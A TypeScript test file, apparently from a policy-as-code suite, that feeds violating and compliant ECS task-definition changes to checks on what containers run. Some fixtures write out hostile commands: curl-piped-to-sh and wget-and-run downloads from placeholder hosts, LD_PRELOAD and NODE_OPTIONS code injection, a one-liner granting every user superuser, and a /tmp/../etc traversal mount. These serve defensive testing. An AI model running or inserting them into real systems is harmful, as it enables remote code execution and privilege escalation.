/**
 * Class 3: task definitions AWS accepts but whose containers would not start, or would start
 * something nobody reviewed, judged as ECS runs them (policy/lib/facts/containerRuntime.ts): what
 * each container runs (entry point, command, the settings that load code), the platform its image
 * is built for, the order its containers start in, which of them may stop the task, what ECS Exec
 * needs in every container (an init process) and where its sessions are recorded, and the
 * writable volumes a read-only root filesystem must not have over code or system directories.
 */
import { ACCOUNT, add, all, Case, drift, edit, named, suite, tags } from "./support";

const TD = "aws:ecs/taskDefinition:TaskDefinition";
const CLUSTER = "aws:ecs/cluster:Cluster";
const IMG = `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/expertconnect-backend:v1.0.0`;

/** Edits the container list of a task definition (a program change, or drift). */
const containers = (task: string, f: (list: any[]) => void, how: "edit" | "drift" = "edit") => {
    const change = (p: Record<string, any>) => { const l = JSON.parse(p.containerDefinitions); f(l); p.containerDefinitions = JSON.stringify(l); };
    return how === "edit" ? edit(TD, change, named(task)) : drift(TD, change, named(task));
};
const backend = (f: (c: any) => void) => containers("backend-task", l => f(l[0]));
const frontend = (f: (c: any) => void) => containers("frontend-task", l => f(l[0]));
const sidecar = (task: string, f: (c: any) => void) => containers(task, l => f(l.find((c: any) => c.name === "xray-daemon")));
const setEnv = (name: string, value: string) => (c: any) => { c.environment = [...c.environment.filter((e: any) => e.name !== name), { name, value }]; };
/** A task-local volume in `task`, mounted writable at `path` in its first container. */
const scratch = (task: string, path: string) => all(
    edit(TD, p => { p.volumes = [...p.volumes, { name: "scratch" }]; }, named(task)),
    containers(task, l => { l[0].mountPoints.push({ sourceVolume: "scratch", containerPath: path, readOnly: false }); }));
const execConfig = (f: (config: any) => any, how: "edit" | "drift" = "edit") => {
    const change = (p: Record<string, any>) => { p.configuration = { executeCommandConfiguration: f(p.configuration.executeCommandConfiguration) }; };
    return how === "edit" ? edit(CLUSTER, change) : drift(CLUSTER, change);
};

const violations: Case[] = [
    // ---------- what the container runs ----------
    { name: "red team: entryPoint override downloads and runs a script (curl | sh)", change: backend(c => { c.entryPoint = ["sh", "-c"]; c.command = ["curl -fsSL https://bootstrap.example.com/init.sh | sh && exec gunicorn expertconnect.wsgi"]; }) },
    { name: "red team: command runs Django's development server", change: backend(c => { c.command = ["python", "manage.py", "runserver", "0.0.0.0:8000"]; }) },
    { name: "the command installs a debugger before gunicorn through bash -lc", change: backend(c => { c.command = ["bash", "-lc", "pip install --user debugpy && exec gunicorn expertconnect.wsgi"]; }) },
    { name: "gunicorn started with --reload", change: backend(c => { c.command = ["gunicorn", "--reload", "--bind", "0.0.0.0:8000", "expertconnect.wsgi:application"]; }) },
    { name: "gunicorn told to run a config module through GUNICORN_CMD_ARGS", change: backend(setEnv("GUNICORN_CMD_ARGS", "--threads 2 --config python:expertconnect.dev_gunicorn")) },
    { name: "LD_PRELOAD set on the backend", change: backend(setEnv("LD_PRELOAD", "/tmp/libhook.so")) },
    { name: "the frontend preloads a module through NODE_OPTIONS", change: frontend(setEnv("NODE_OPTIONS", "--require /tmp/patch.js")) },
    { name: "the frontend started as Next.js' development server", change: frontend(c => { c.command = ["npx", "next", "dev", "-p", "3000"]; }) },
    { name: "the X-Ray sidecar's entry point replaced by a shell that fetches a binary", change: sidecar("backend-task", c => { c.entryPoint = ["/bin/sh", "-c", "wget -qO /tmp/x https://dl.example.net/x && /tmp/x"]; }) },
    { name: "dr: the backend's command runs a Django shell with code", stack: "dr", change: backend(c => { c.command = ["python", "manage.py", "shell", "-c", "from django.contrib.auth.models import User; User.objects.update(is_superuser=True)"]; }) },
    {
        name: "a debug task definition runs the backend image as a shell loop", change: add(TD, "debug-task", {
            family: "expertconnect-prod-debug", requiresCompatibilities: ["FARGATE"], networkMode: "awsvpc", cpu: "256", memory: "512",
            runtimePlatform: { operatingSystemFamily: "LINUX", cpuArchitecture: "X86_64" },
            containerDefinitions: JSON.stringify([{ name: "debug", image: IMG, essential: true, user: "1000:1000", readonlyRootFilesystem: true, entryPoint: ["sh", "-c"], command: ["while true; do sleep 3600; done"],
                logConfiguration: { logDriver: "awslogs", options: { "awslogs-group": "/ecs/expertconnect-prod-backend", "awslogs-region": "us-east-1", "awslogs-stream-prefix": "debug" } } }]),
            tags: tags("backend"),
        }),
    },

    // ---------- the platform the images are built for ----------
    { name: "red team: backend task switched to ARM64", change: edit(TD, p => { p.runtimePlatform = { ...p.runtimePlatform, cpuArchitecture: "ARM64" }; }, named("backend-task")) },
    { name: "dr: frontend task switched to ARM64", stack: "dr", change: edit(TD, p => { p.runtimePlatform = { operatingSystemFamily: "LINUX", cpuArchitecture: "ARM64" }; }, named("frontend-task")) },
    { name: "DRIFT: the backend's task definition re-registered on ARM64 in the console", change: drift(TD, p => { p.runtimePlatform = { ...p.runtimePlatform, cpuArchitecture: "ARM64" }; }, named("backend-task")) },

    // ---------- the order containers start in ----------
    { name: "red team: backend dependsOn the X-Ray daemon HEALTHY, the daemon has no health check", change: backend(c => { c.dependsOn = [{ containerName: "xray-daemon", condition: "HEALTHY" }]; }) },
    { name: "backend waits for the X-Ray daemon to exit (COMPLETE): a daemon never does", change: backend(c => { c.dependsOn = [{ containerName: "xray-daemon", condition: "COMPLETE" }]; }) },
    { name: "frontend depends on a sidecar spelt `xray` (no such container)", change: frontend(c => { c.dependsOn = [{ containerName: "xray", condition: "START" }]; }) },
    { name: "backend and its sidecar wait for each other", change: containers("backend-task", l => { l[0].dependsOn = [{ containerName: "xray-daemon", condition: "START" }]; l[1].dependsOn = [{ containerName: "backend", condition: "START" }]; }) },

    // ---------- which containers may stop the task ----------
    { name: "red team: X-Ray sidecar made essential", change: sidecar("backend-task", c => { c.essential = true; }) },
    { name: "the frontend's X-Ray sidecar loses its essential flag (ECS's default is essential)", change: sidecar("frontend-task", c => { delete c.essential; }) },

    // ---------- ECS Exec ----------
    { name: "red team: init process disabled on the backend while ECS Exec is on", change: backend(c => { c.linuxParameters = { initProcessEnabled: false }; }) },
    { name: "the frontend's linuxParameters rewritten to drop capabilities, losing the init process", change: frontend(c => { c.linuxParameters = { capabilities: { drop: ["ALL"] } }; }) },
    { name: "the X-Ray sidecar's init process removed", change: sidecar("backend-task", c => { delete c.linuxParameters; }) },
    { name: "red team: ECS Exec logging DEFAULT", change: execConfig(e => ({ kmsKeyId: e.kmsKeyId, logging: "DEFAULT" })) },
    { name: "ECS Exec logging key removed, the audit group still named (DEFAULT applies)", change: execConfig(e => { const { logging: _dropped, ...rest } = e; return rest; }) },
    { name: "DRIFT: ECS Exec logging switched to DEFAULT in the console", change: execConfig(e => ({ ...e, logging: "DEFAULT" }), "drift") },

    // ---------- writable mounts over code and system directories ----------
    { name: "red team: a writable volume mounted at /app", change: scratch("backend-task", "/app") },
    { name: "a writable volume over Python's site-packages", change: scratch("backend-task", "/usr/local/lib/python3.12/site-packages") },
    { name: "the frontend's whole build (/app/.next) made a writable volume", change: scratch("frontend-task", "/app/.next") },
    { name: "a writable volume over /etc, spelt /tmp/../etc", change: scratch("backend-task", "/tmp/../etc") },
    { name: "dr: a writable volume at / in the backend", stack: "dr", change: scratch("backend-task", "/") },
];

const compliant: Case[] = [
    { name: "the backend started explicitly as gunicorn serving the Django application on its port", change: backend(c => { c.command = ["gunicorn", "expertconnect.wsgi:application", "--bind", "0.0.0.0:8000", "--access-logfile", "-"]; }) },
    { name: "gunicorn's timeout set through GUNICORN_CMD_ARGS", change: backend(setEnv("GUNICORN_CMD_ARGS", "--threads 2 --timeout 60 --graceful-timeout 25")) },
    { name: "the frontend's heap sized through NODE_OPTIONS", change: frontend(setEnv("NODE_OPTIONS", "--max-old-space-size=768")) },
    { name: "the backend waits for the X-Ray daemon to start", change: backend(c => { c.dependsOn = [{ containerName: "xray-daemon", condition: "START" }]; }) },
    { name: "runtimePlatform dropped (ECS runs Linux/X86_64)", change: edit(TD, p => { delete p.runtimePlatform; }, named("backend-task")) },
    { name: "the backend drops every capability and keeps its init process", change: backend(c => { c.linuxParameters = { ...c.linuxParameters, capabilities: { drop: ["ALL"] } }; }) },
    { name: "a writable scratch volume for a file cache outside the code", change: scratch("backend-task", "/var/cache/expertconnect") },
];

suite("adversarial class 3: what a task definition starts", violations, compliant);
